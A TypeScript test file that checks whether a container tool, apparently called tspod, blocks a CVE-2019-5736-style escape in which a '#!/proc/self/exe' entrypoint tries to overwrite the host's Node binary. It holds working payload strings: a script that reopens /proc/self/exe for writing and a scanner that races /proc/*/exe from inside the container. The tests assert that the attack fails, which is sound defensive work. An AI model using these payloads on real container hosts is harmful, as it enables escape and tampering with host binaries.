// Hole 2 of issue 10 (CVE-2019-5736 class): /proc/self/exe of a process tspod sends into a
// container must never be the host's Node. The attack, for real: tspod runs on a copy of Node
// owned by the user (as with nvm), the image carries what that Node needs to start (its ELF
// interpreter and libraries, copied from the host), and
//  - its entrypoint is a script starting `#!/proc/self/exe`: executed by a process that still is
//    tspod's Node, it runs that Node in the container, on a JavaScript payload;
//  - the payload holds /proc/self/exe and, once the binary is no longer busy, reopens it for
//    writing through /proc/self/fd, as the CVE's exploit did; a scanner in the container's main
//    process does the same with any non-busybox /proc/<pid>/exe it can open during `tspod exec`.
import test from 'ava'
import {execFileSync} from 'node:child_process'
import {createHash} from 'node:crypto'
import * as fs from 'node:fs'
import * as path from 'node:path'

import {Sandbox, TSPOD_BIN, removeTree, runAs, sandbox, lookupUser, TEST_USER, RunResult, tspod} from '../helpers/rootless'
import {LayerEntry, busyboxLayer, buildImage, writeOciArchive, DEFAULT_CONFIG} from '../helpers/oci-image'

const MARK = 'overwritten by the container'

// Writes MARK into the file open on fd 3 once nobody executes it (ETXTBSY until then).
const OVERWRITE = `i=0; while [ $i -lt 300 ]; do if echo "${MARK}" > /proc/self/fd/3; then echo written > /tmp/attack; exit 0; fi; i=$((i+1)); sleep 0.05; done; echo busy > /tmp/attack`

const PAYLOAD = `#!/proc/self/exe
const fs = require('fs')
const cp = require('child_process')
const exe = fs.openSync('/proc/self/exe', 'r')
cp.spawn('/bin/sh', ['-c', ${JSON.stringify(OVERWRITE)}], {stdio: ['ignore', 'ignore', 'ignore', exe], detached: true}).unref()
console.log('the host binary ran in the container')
`

// The container's main process: opens /proc/<pid>/exe of any process that is not busybox and
// tries to overwrite it, as above.
const SCANNER = `while :; do for p in /proc/[0-9]*; do
  exe=$(readlink $p/exe 2>/dev/null) || continue
  [ "$exe" = /bin/busybox ] && continue
  grep -qx "$p" /tmp/tried 2>/dev/null && continue
  echo "$p" >> /tmp/tried
  echo "$exe" >> /tmp/exes
  ( exec 3< $p/exe && ${OVERWRITE.replace('/tmp/attack', '/tmp/attack-scan')} ) 2>/dev/null &
done; done`

/** The files the dynamic loader maps for `binary`, as ldd lists them (the loader included). */
function sharedObjects(binary: string): string[] {
  const out = execFileSync('ldd', [binary], {encoding: 'utf8'})
  return out
    .split('\n')
    .map((line) => /(\/\S+) \(0x/.exec(line)?.[1])
    .filter((p): p is string => p !== undefined)
}

async function nodeRuntimeImage(node: string) {
  const entries: LayerEntry[] = []
  const dirs = new Set<string>()
  for (const file of sharedObjects(node)) {
    const rel = file.slice(1)
    const parts = path.dirname(rel).split('/')
    for (let i = 1; i <= parts.length; i++) {
      const dir = parts.slice(0, i).join('/') + '/'
      if (!dirs.has(dir) && !['usr/', 'bin/', 'sbin/'].includes(dir)) entries.push({path: dir, type: 'dir', mode: 0o755})
      dirs.add(dir)
    }
    entries.push({path: rel, content: fs.readFileSync(file), mode: 0o755})
  }
  entries.push({path: 'payload.js', content: PAYLOAD, mode: 0o755})
  return buildImage({
    layers: [await busyboxLayer(), entries],
    config: {...DEFAULT_CONFIG, Entrypoint: ['/payload.js'], Cmd: []},
  })
}

interface NodeCopy {
  box: Sandbox
  node: string
  digest: string
}

function digest(file: string): string {
  return createHash('sha256').update(fs.readFileSync(file)).digest('hex')
}

/** A sandbox whose tspod runs on a copy of Node owned by the test user, with the image loaded. */
async function userNodeSandbox(t: {teardown(fn: () => unknown): void}): Promise<NodeCopy> {
  const box = sandbox(lookupUser(TEST_USER))
  t.teardown(() => removeTree(box.dir))
  const node = path.join(box.dir, 'node')
  fs.copyFileSync(process.execPath, node)
  fs.chownSync(node, box.user.uid, box.user.gid)
  fs.chmodSync(node, 0o755)
  const archive = path.join(box.dir, 'images.tar')
  await writeOciArchive(archive, [{image: await nodeRuntimeImage(node), ref: 'localhost/selfexe:latest'}])
  fs.chmodSync(archive, 0o644)
  const copy = {box, node, digest: digest(node)}
  const load = await userTspod(copy, ['load', '-q', '-i', archive])
  if (load.code !== 0) throw new Error(load.stderr)
  return copy
}

function userTspod(copy: NodeCopy, args: string[]): Promise<RunResult> {
  return runAs(copy.box.user, [copy.node, TSPOD_BIN, ...args], {env: copy.box.env})
}

/** Give a payload that did run the time to finish (it tries for 15 s at most), then read its result. */
async function attackResult(copy: NodeCopy, container: string, file: string): Promise<string> {
  const r = await tspod(copy.box, ['exec', container, 'sh', '-c', `i=0; while [ ! -e ${file} ] && [ $i -lt 40 ]; do sleep 0.1; i=$((i+1)); done; cat ${file} 2>/dev/null; true`])
  return r.stdout.trim()
}

const REFUSAL = /tspod-exec-helper: this program only starts a container's process for tspod/

test('run: a #!/proc/self/exe entrypoint fails cleanly and the user\'s Node stays unchanged', async (t) => {
  const copy = await userNodeSandbox(t)
  const run = await userTspod(copy, ['run', '--rm', 'selfexe'])
  t.is(run.code, 126, run.stdout + run.stderr)
  t.regex(run.stderr, REFUSAL)
  t.false(run.stdout.includes('the host binary ran'))
  t.is(digest(copy.node), copy.digest)
})

test('create + start (detached, under the monitor): a #!/proc/self/exe entrypoint fails cleanly and the user\'s Node stays unchanged', async (t) => {
  const copy = await userNodeSandbox(t)
  const create = await userTspod(copy, ['create', '--name', 'detached', 'selfexe'])
  t.is(create.code, 0, create.stderr)
  t.teardown(() => tspod(copy.box, ['rm', '-f', '-t', '0', 'detached']))
  const start = await userTspod(copy, ['start', 'detached'])
  t.is(start.code, 0, start.stderr)
  const wait = await userTspod(copy, ['wait', 'detached'])
  t.is(wait.stdout.trim(), '126', wait.stderr)
  const logs = await userTspod(copy, ['logs', 'detached'])
  t.regex(logs.stdout + logs.stderr, REFUSAL)
  t.false((logs.stdout + logs.stderr).includes('the host binary ran'))
  t.is(digest(copy.node), copy.digest)
})

// crun and runc start the container's process themselves, each from a sealed copy of its own
// binary (their fix of CVE-2019-5736); tspod's child, which executes them, goes through the exec
// helper as every child does.
for (const runtime of ['crun', 'runc']) {
  test(`run --runtime ${runtime}: a #!/proc/self/exe entrypoint gets no host binary either`, async (t) => {
    const copy = await userNodeSandbox(t)
    const run = await userTspod(copy, ['run', '--rm', '--runtime', runtime, 'selfexe'])
    t.not(run.code, 0, run.stdout + run.stderr)
    t.false(run.stdout.includes('the host binary ran'), run.stdout)
    t.is(digest(copy.node), copy.digest)
  })
}

test('exec: a #!/proc/self/exe program, raced by a scanner of /proc/*/exe, cannot overwrite the user\'s Node', async (t) => {
  const copy = await userNodeSandbox(t)
  const run = await userTspod(copy, ['run', '-d', '--name', 'victim', '--entrypoint', '/bin/sh', 'selfexe', '-c', SCANNER])
  t.is(run.code, 0, run.stderr)
  t.teardown(() => tspod(copy.box, ['rm', '-f', '-t', '0', 'victim']))

  const exec = await userTspod(copy, ['exec', 'victim', '/payload.js'])
  for (let i = 0; i < 5; i++) await userTspod(copy, ['exec', 'victim', 'true'])

  // read with the system's Node, so that the copy is not busy while the payloads try
  const attack = await attackResult(copy, 'victim', '/tmp/attack')
  const exes = await tspod(copy.box, ['exec', 'victim', 'sh', '-c', 'sleep 1; sort -u /tmp/exes 2>/dev/null; cat /tmp/attack-scan 2>/dev/null; true'])
  // the attack's outcome first: this is what an unfixed tspod fails
  t.is(digest(copy.node), copy.digest, `the Node copy was changed (payload: ${attack}; scanner: ${exes.stdout})`)
  t.is(attack, '')
  t.false(exes.stdout.includes(fs.realpathSync(copy.node)), exes.stdout)
  t.false(exes.stdout.includes('written'), exes.stdout)
  t.is(exec.code, 126, exec.stdout + exec.stderr)
  t.regex(exec.stderr, REFUSAL)
  t.false(exec.stdout.includes('the host binary ran'))
})
